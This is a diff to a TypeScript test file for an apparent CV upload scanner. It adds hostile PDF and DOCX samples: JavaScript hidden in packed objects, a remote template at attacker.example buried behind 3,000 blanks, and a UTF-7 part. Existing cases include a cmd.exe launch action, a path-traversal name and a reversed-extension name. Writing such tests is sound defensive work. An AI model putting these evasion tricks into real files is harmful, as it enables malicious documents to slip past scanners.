@@ -94,6 +94,18 @@ const cases: Case[] = [
     () => pdfOf([catalog('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'), pages]),
   ],
   [
+    'A PDF whose script is in packed objects that only some readers find',
+    'cv.pdf',
+    () =>
+      pdfOf([
+        catalog('/OpenAction 9 0 R'),
+        pages,
+        pdfStream('/Type/ObjStm/N 4 0 R/First 5 0 R', '9 0 <</S/JavaScript/JS(app.alert(1))>>'),
+        '1',
+        '4',
+      ]),
+  ],
+  [
     'A PDF that starts a program',
     'cv.pdf',
     () => pdfOf([catalog('/OpenAction<</S/Launch/F(cmd.exe)>>'), pages]),
@@ -124,6 +136,21 @@ const cases: Case[] = [
     'A DOCX that loads its template from elsewhere',
     'cv.docx',
     () => docxRelated('attachedTemplate', 'https://attacker.example/a.dotm', { mode: 'External' }),
+  ],
+  [
+    'The same behind 3,000 blanks',
+    'cv.docx',
+    () =>
+      docx({
+        'word/_rels/settings.xml.rels': strToU8(
+          `${' '.repeat(3000)}<Relationships><Relationship Type="x/attachedTemplate" Target="https://attacker.example/a.dotm" TargetMode="External"/></Relationships>`,
+        ),
+      }),
+  ],
+  [
+    'A DOCX with a part in letters that are not UTF-8 or UTF-16',
+    'cv.docx',
+    () => docx({ 'word/header1.xml': strToU8('+ADw-w:hdr/+AD4-') }),
   ],
   ['A PDF whose name leads out of the folder', '../../../etc/passwd.pdf', () => pdf],
   ['A PDF whose name is written backwards', 'cv\u202Efdp.exe.pdf', () => pdf],
